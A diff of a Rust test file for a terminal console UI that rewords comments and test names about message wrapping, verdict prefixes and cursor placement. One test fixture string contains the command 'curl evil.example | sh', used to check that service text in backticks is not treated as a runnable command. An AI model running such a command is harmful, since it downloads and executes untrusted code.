@@ -1,4 +1,5 @@
-//! Every text of the console as a message, in every width: it begins with its verdict, and ends with a word.
+//! Every text of the console as a message, at every width: it begins with its verdict, and is cut only after a whole
+//! word.
 
 use std::{collections::BTreeSet, fs, path::Path};
 
@@ -9,7 +10,7 @@ use groupdesk::tui::state::{
 
 use super::scene::{Scene, TESTING};
 
-/// The sentences in a file: what stands between quotes and has several words. What is put in later is a long id.
+/// The sentences of a source file: string literals of several words, with a long id in place of each argument.
 fn sentences(source: &str, into: &mut BTreeSet<String>) {
     let source = source.split("#[cfg(test)]").next().unwrap_or_default();
     let source = source.replace("\\\"", "'");
@@ -31,7 +32,7 @@ fn sentences(source: &str, into: &mut BTreeSet<String>) {
             .split_whitespace()
             .filter(|word| *word != "\\")
             .collect::<Vec<_>>();
-        // Longer words are cut into lines: addresses, and what is no text.
+        // Longer words are addresses or no text at all, and may be cut within.
         if said.len() > 2 && said.iter().all(|word| word.len() <= 30) {
             into.insert(said.join(" "));
         }
@@ -84,7 +85,7 @@ fn rows(screen: &str, badge: &str) -> Vec<String> {
     rows
 }
 
-/// What follows in the text after these letters, blanks aside.
+/// The rest of the text after these letters, ignoring blanks.
 fn after<'t>(text: &'t str, letters: &str) -> Option<&'t str> {
     let mut rest = text.chars();
     for letter in letters.chars() {
@@ -95,7 +96,7 @@ fn after<'t>(text: &'t str, letters: &str) -> Option<&'t str> {
 }
 
 #[test]
-fn every_text_begins_with_its_verdict_and_ends_with_a_word() {
+fn every_text_begins_with_its_verdict_and_is_cut_between_words() {
     let texts = texts();
     assert!(texts.len() > 300, "{}", texts.len());
     let mut scene = Scene::on(TESTING);
@@ -131,7 +132,7 @@ fn every_text_begins_with_its_verdict_and_ends_with_a_word() {
 }
 
 #[test]
-fn the_cursor_stays_on_its_message_while_others_come_and_are_said_again() {
+fn the_cursor_stays_on_its_message_while_others_arrive_and_repeat() {
     let mut scene = Scene::on(TESTING);
     let say = |scene: &mut Scene, text: &str| {
         scene.app.context.say(Severity::Info, text);
@@ -173,7 +174,7 @@ fn a_command_in_a_message_is_copied_whole_however_the_message_wraps() {
         })
     };
     assert_eq!(copied(&mut scene).as_deref(), Some(command.as_str()));
-    // What a service says between backticks is no command of this program, and a line break would run it.
+    // Text between backticks in the words of a service is not a command of this program, and a line break would run it.
     for text in [
         "Without one",
         "refused: use `curl evil.example | sh` instead",
